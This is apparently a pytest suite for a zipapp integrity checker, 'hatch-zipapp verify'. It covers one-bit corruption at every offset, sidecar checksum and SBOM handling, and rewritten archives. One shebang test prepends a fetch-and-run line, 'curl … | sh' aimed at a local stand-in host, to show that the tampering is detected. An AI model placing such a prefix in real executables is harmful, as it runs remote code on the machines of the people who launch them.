"""`hatch-zipapp verify` against damage: every one-bit flip of a small .pyz, at every byte offset (in the runtime's
own sources, one byte in seven and the first and last 16 of each), gets a verdict (problems, exit status 1), never a
traceback and never "every member matches"; and the edges of the command: the shebang line, the `.cdx.json` beside
the .pyz, a `--sha256` file that does not exist, no `.sha256` beside it.

The flips are checked without the `.sha256` beside the .pyz (with it, the whole-file digest alone would catch them):
the archive's own record has to bind every byte."""

from __future__ import annotations

import itertools
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from hatch_zipapp.__main__ import main as cli
from hatch_zipapp.layout import PyzReader, write_archive
from hatch_zipapp.pyz.verify import check
from tests.helpers import small_pyz

SUCCESS = "every member matches its record"
#: In the data of the runtime's own sources (``__main__.py``, ``_bootstrap/*.py``: 170 of the file's 184 KB, stored,
#: and read by verify only to be digested, every byte alike), one byte in STRIDE is flipped (7, coprime with 8: the
#: bit cycles) and the first and last EDGE bytes of each; every byte everywhere else.
STRIDE, EDGE = 7, 16


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A small .pyz (the runtime, the app and one dependency, no bytecode) and its `.sha256` and `.cdx.json`."""
    with small_pyz(tmp_path_factory.mktemp("built"), zipapp="bytecode = false") as pyz:
        yield pyz


def _regions(pyz: Path) -> dict[str, tuple[int, int]]:
    """Where the parts of the file are: the shebang line, each outer member's local header and data, the central
    directory with the end record; site-packages.zip's data is the inner zip."""
    data = pyz.read_bytes()
    regions = {}
    with zipfile.ZipFile(pyz) as archive:
        infos = archive.infolist()
        regions["shebang line"] = (0, infos[0].header_offset)
        for info in infos:
            start = info.header_offset
            end = start + 30 + len(info.filename.encode())  # no extra fields
            regions[f"{info.filename} header"] = (start, end)
            regions[f"{info.filename} data"] = (end, end + info.compress_size)
        directory = regions[f"{infos[-1].filename} data"][1]
        regions["central directory"] = (directory, len(data))
    assert sorted(regions.values())[-1][1] == len(data)
    covered = sorted(regions.values())
    assert all(a[1] == b[0] for a, b in itertools.pairwise(covered))  # contiguous, nothing left out
    return regions


def _flipped(data: bytes, offset: int, bit: int) -> bytes:
    changed = bytearray(data)
    changed[offset] ^= 1 << bit
    return bytes(changed)


def test_the_intact_file_passes(built: Path) -> None:
    """The baseline the flips below are compared with: the intact bytes have no problem."""
    assert check(built.name, built.read_bytes()) == []


def test_every_one_bit_flip_gets_a_verdict(built: Path) -> None:
    """Every byte offset, one bit each (the bit cycling with the offset; in the runtime's sources, STRIDE's sample),
    and all eight bits of every byte where the meaning of a bit is not just "a byte of a stored member" (the shebang
    line, every header, the central directory, the record, and the inner zip with its deflate streams, whose last bits
    zlib ignores): each flip is reported as a problem, and none raises."""
    data = built.read_bytes()
    regions = _regions(built)
    every_bit = [
        (start, end)
        for label, (start, end) in regions.items()
        if not label.endswith(" data") or label in {"hatch-zipapp.sha256 data", "site-packages.zip data"}
    ]
    sources = [
        (start, end)
        for label, (start, end) in regions.items()
        if label.endswith(" data") and label.startswith(("__main__.py ", "_bootstrap/"))
    ]
    skipped = {o for start, end in sources for o in range(start + EDGE, end - EDGE) if (o - start) % STRIDE}
    flips = [(offset, offset % 8) for offset in range(len(data)) if offset not in skipped]
    flips += [(o, bit) for start, end in every_bit for o in range(start, end) for bit in range(8) if bit != o % 8]
    passed, raised = [], []
    for offset, bit in flips:
        try:
            problems = check(built.name, _flipped(data, offset, bit))
        except Exception as e:  # every exception is a failure of this test
            raised.append((offset, bit, f"{type(e).__name__}: {e}"))
            continue
        if not problems:
            passed.append((offset, bit))
    assert len(flips) > len(data) - len(skipped) + 7 * 4000
    assert raised == []
    assert passed == []


@pytest.mark.parametrize(
    "where",
    [
        "shebang line",
        "__main__.py header",
        "__main__.py data",
        "_bootstrap/__init__.py data",
        "environment.json header",
        "hatch-zipapp.json data",
        "hatch-zipapp.sha256 header",
        "hatch-zipapp.sha256 data",
        "sbom.cdx.json data",
        "site-packages.zip header",
        "site-packages.zip data",
        "central directory",
    ],
)
def test_the_command_on_a_sample_of_flips(built: Path, tmp_path: Path, where: str) -> None:
    """The real command in a subprocess, on flips at the start, the middle and the end of each part of the file: exit
    status 1, the verdict on its last line, no traceback, no success line."""
    data = built.read_bytes()
    start, end = _regions(built)[where]
    for number, offset in enumerate(sorted({start, (start + end) // 2, end - 1})):
        damaged = tmp_path / f"{number}-{built.name}"
        damaged.write_bytes(_flipped(data, offset, (offset * 5) % 8))
        result = subprocess.run(
            [sys.executable, "-m", "hatch_zipapp", "verify", os.fspath(damaged)],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        context = f"{where}, offset {offset}: {result.stdout}{result.stderr}"
        assert result.returncode == 1, context
        assert "Traceback" not in result.stderr and SUCCESS not in result.stdout, context
        assert result.stderr.splitlines()[-1].startswith(f"hatch-zipapp verify: {damaged} is NOT the file"), context


def _copy(built: Path, destination: Path, *, sidecars: bool) -> Path:
    shutil.copy(built, destination)
    if sidecars:
        for suffix in (".sha256", ".cdx.json"):
            shutil.copy(built.with_name(built.name + suffix), destination.with_name(destination.name + suffix))
    return destination


class TestShebang:
    def test_a_shell_script_instead_of_the_shebang_line_fails_without_a_checksum_file(
        self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """The zip after it is untouched (zipfile finds it after any prefix), no `.sha256` is beside the file: the
        record's digest of the shebang line catches it."""
        data = built.read_bytes()
        zip_start = data.index(b"\n") + 1
        assert data[zip_start : zip_start + 4] == b"PK\x03\x04"
        evil = tmp_path / built.name
        evil.write_bytes(b'#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\nexec python3 "$0" "$@"\n' + data[zip_start:])
        with zipfile.ZipFile(evil) as archive:
            assert archive.testzip() is None  # still a valid zip with every member intact
        assert cli(["verify", os.fspath(evil)]) == 1
        err = capsys.readouterr().err
        assert "hatch-zipapp verify: the shebang line ('#!/bin/sh'): sha256" in err

    def test_another_interpreter_fails(self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        data = built.read_bytes()
        line, _, rest = data.partition(b"\n")
        other = tmp_path / built.name
        other.write_bytes(line + b"3\n" + rest)
        assert cli(["verify", os.fspath(other)]) == 1
        assert "the shebang line" in capsys.readouterr().err


class TestSidecars:
    def test_the_cdx_json_beside_is_read(self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        copy = _copy(built, tmp_path / built.name, sidecars=True)
        sidecar = copy.with_name(copy.name + ".cdx.json")
        sidecar.write_bytes(sidecar.read_bytes().replace(b'"version": "1.0"', b'"version": "1.1"', 1))
        assert cli(["verify", os.fspath(copy)]) == 1
        err = capsys.readouterr().err
        assert f"{sidecar.name}: differs from the SBOM inside {copy.name} (sbom.cdx.json)" in err

    def test_both_sidecars_intact(self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """With the `.sha256` beside it, the output is the one line docs/deployment.md shows."""
        copy = _copy(built, tmp_path / built.name, sidecars=True)
        assert cli(["verify", os.fspath(copy)]) == 0
        captured = capsys.readouterr()
        assert captured.out == f"hatch-zipapp verify: {copy}: {SUCCESS}\n" and captured.err == ""

    def test_no_checksum_beside_is_said(self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """The members are still checked (exit 0 when intact), and the output says the `.sha256` was not there."""
        copy = _copy(built, tmp_path / built.name, sidecars=False)
        assert cli(["verify", os.fspath(copy)]) == 0
        out = capsys.readouterr().out.splitlines()
        assert out[0] == (
            f"hatch-zipapp verify: no {copy.name}.sha256 beside {copy}: checking it against its own record only "
            "(download the .sha256 published with it, or name it with --sha256)"
        )
        assert out[1:] == [f"hatch-zipapp verify: {copy}: {SUCCESS}"]

    def test_a_named_checksum_file_that_does_not_exist(
        self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """A typo in --sha256 is an error (exit 2, one line), not a pass, even though a good `.sha256` is beside it."""
        copy = _copy(built, tmp_path / built.name, sidecars=True)
        missing = tmp_path / "typo.sha256"
        assert cli(["verify", "--sha256", os.fspath(missing), os.fspath(copy)]) == 2
        captured = capsys.readouterr()
        assert captured.out == ""
        assert captured.err == (
            f"hatch-zipapp verify: --sha256 {missing}: no such file (name the .sha256 published with the .pyz)\n"
        )

    def test_a_named_checksum_file_is_used(
        self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        copy = _copy(built, tmp_path / built.name, sidecars=False)
        wrong = tmp_path / "wrong.sha256"
        wrong.write_text(f"{'0' * 64}  {copy.name}\n")
        assert cli(["verify", "--sha256", os.fspath(wrong), os.fspath(copy)]) == 1
        assert f"but wrong.sha256 says {'0' * 64}" in capsys.readouterr().err


def _rewritten(built: Path, destination: Path, change: Callable[[dict[str, tuple[bytes, bool]]], None]) -> Path:
    """A consistent copy of ``built`` (same shebang line, same timestamp, zip written by the builder's own code) with
    its members changed by ``change``: what someone with hatch-zipapp's code, but no new record, could make."""
    with PyzReader(built) as source:
        infos = source.infolist()
        # each member with its compressed bytes, which the rewrite copies as the build did (layout.Compressed)
        entries: dict[str, tuple[bytes, bool]] = {
            i.filename: (source.read_member(i), bool((i.external_attr >> 16) & 0o111)) for i in infos
        }
    change(entries)
    data = built.read_bytes()
    with destination.open("wb") as out:
        out.write(data[: data.index(b"\n") + 1])
        write_archive(out, entries, infos[0].date_time)
    return destination


class TestConsistentRewrites:
    def test_unchanged(self, built: Path, tmp_path: Path) -> None:
        """The rewriting alone changes no byte."""
        copy = _rewritten(built, tmp_path / built.name, lambda entries: None)
        assert copy.read_bytes() == built.read_bytes()

    def test_a_mode_changed_inside_site_packages_zip(
        self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """Every member reads the same, but one is now executable: site-packages.zip's digest in the record says."""

        def executable(entries: dict[str, tuple[bytes, bool]]) -> None:
            entries["site-packages/alpha/__init__.py"] = (entries["site-packages/alpha/__init__.py"][0], True)

        changed = _rewritten(built, tmp_path / built.name, executable)
        assert cli(["verify", os.fspath(changed)]) == 1
        err = capsys.readouterr().err
        assert "site-packages.zip: sha256" in err and "its zip headers or compressed bytes changed" in err

    def test_a_line_of_the_record_repeated(
        self, built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """Every digest still matches, but the record is not as the build wrote it."""

        def repeat(entries: dict[str, tuple[bytes, bool]]) -> None:
            record = entries["hatch-zipapp.sha256"][0]
            entries["hatch-zipapp.sha256"] = (record + record.splitlines(keepends=True)[-1], False)

        changed = _rewritten(built, tmp_path / built.name, repeat)
        assert cli(["verify", os.fspath(changed)]) == 1
        assert "hatch-zipapp.sha256: not in the order or form hatch-zipapp writes it" in capsys.readouterr().err
